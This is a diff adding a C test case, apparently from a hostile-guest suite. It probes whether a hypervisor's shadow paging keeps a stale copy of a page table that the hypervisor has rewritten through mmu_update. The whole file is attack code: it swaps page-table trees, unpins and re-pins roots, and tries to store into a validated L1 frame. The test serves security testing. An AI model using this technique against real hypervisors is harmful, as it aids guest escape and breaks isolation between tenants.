@@ -1,0 +1,81 @@
+/*
+ * A stale copy of a table, kept by the engine, brought back. Like
+ * stale-tlb-root it moves to a copy of its tree in which the scratch
+ * address maps frame Y, after storing through the scratch address under
+ * the old tree (so the old L1 T, which maps it to X, is cached), and
+ * unpins the old root: the old tree is devalidated, and T is data. It
+ * then rewrites T's entry for the scratch address to Y with mmu_update (a
+ * plain store into a data page, done by the hypervisor), pins X as an L1,
+ * pins the old root again (T now validates: it maps Y) and loads it. A
+ * store through the scratch address must reach Y. It lands in X, a
+ * validated L1, if the engine kept its copy of T from before the rewrite
+ * (KVM's shadow paging does not see the hypervisor's writes). The stores
+ * are non-present entries, harmless if they do land.
+ * Xen: 0 and the store in Y. The line says "refused ...: 0" then.
+ */
+#include "hostile.h"
+
+static int attack(void)
+{
+    volatile uint64_t *p, *copy[5];
+    volatile uint64_t *xview = (volatile uint64_t *)hx_scratch(2);
+    unsigned long va, x, y, newt[5], old[5];
+    unsigned int i;
+    int level;
+    long rc;
+
+    va = hx_scratch(0);
+    if (hx_2m_in_use(va, &rc, 1))
+        return hx_setup_failed("the scratch pages share their 2 MiB with the kernel", (long)va);
+    p = (volatile uint64_t *)va;
+    x = hx_virt_to_mfn(va);
+    y = hx_virt_to_mfn(hx_scratch(1));
+    /* The new tree lives in scratch pages 3 (L1) to 6 (L4), as in stale-tlb-root. */
+    for (level = 1; level <= 4; level++) {
+        old[level] = hx_table_mfn(va, level);
+        copy[level] = (volatile uint64_t *)hx_scratch(2 + level);
+        newt[level] = hx_virt_to_mfn(hx_scratch(2 + level));
+        for (i = 0; i < 512; i++)
+            copy[level][i] = hx_table(old[level])[i];
+    }
+    for (level = 2; level <= 4; level++)
+        copy[level][hx_index(va, level)] = (newt[level - 1] << 12) | HX_RW;
+    copy[1][hx_index(va, 1)] = (y << 12) | HX_RW;
+    for (level = 1; level <= 4; level++)
+        copy[1][hx_index(hx_scratch(2 + level), 1)] = (newt[level] << 12) | HX_RO;
+    for (level = 1; level <= 4; level++) {
+        rc = hx_update_va_mapping(hx_scratch(2 + level), (newt[level] << 12) | HX_RO, UVMF_INVLPG);
+        if (rc != 0)
+            return hx_setup_failed("could not map a new table read-only", rc);
+    }
+    rc = hx_mmuext1(MMUEXT_PIN_L4_TABLE, newt[4], 0);
+    if (rc != 0)
+        return hx_setup_failed("could not pin the new L4", rc);
+    /* Use X through T under the old root, so that T is cached. */
+    if ((rc = hx_stale_first(p)))
+        return (int)rc;
+    rc = hx_mmuext1(MMUEXT_NEW_BASEPTR, newt[4], 0);
+    if (rc == 0)
+        rc = hx_mmuext1(MMUEXT_UNPIN_TABLE, old[4], 0);
+    if (rc != 0)
+        return hx_setup_failed("could not move to the new tree", rc);
+    /* T is data now: the hypervisor writes the scratch entry for us. */
+    rc = hx_mmu1(hx_slot_maddr(old[1], hx_index(va, 1)), (y << 12) | HX_RW);
+    if (rc != 0)
+        return hx_setup_failed("could not rewrite the old L1 as data", rc);
+    rc = hx_mmuext1(MMUEXT_PIN_L1_TABLE, x, 0);
+    if (rc != 0)
+        return hx_setup_failed("could not pin the old frame as an L1", rc);
+    rc = hx_mmuext1(MMUEXT_PIN_L4_TABLE, old[4], 0);
+    if (rc == 0)
+        rc = hx_mmuext1(MMUEXT_NEW_BASEPTR, old[4], 0);
+    if (rc != 0)
+        return hx_setup_failed("could not go back to the old tree", rc);
+    p[0] = HX_STALE_SECOND;
+    rc = hx_update_va_mapping(hx_scratch(2), (x << 12) | HX_RO, UVMF_INVLPG);
+    if (rc != 0)
+        return hx_setup_failed("could not map the new L1 read-only", rc);
+    hx_attempt_any(0, xview[0] == HX_STALE_FIRST && p[0] == HX_STALE_SECOND,
+                   "a store through a copy of a table taken before the hypervisor rewrote it");
+    return 0;
+}
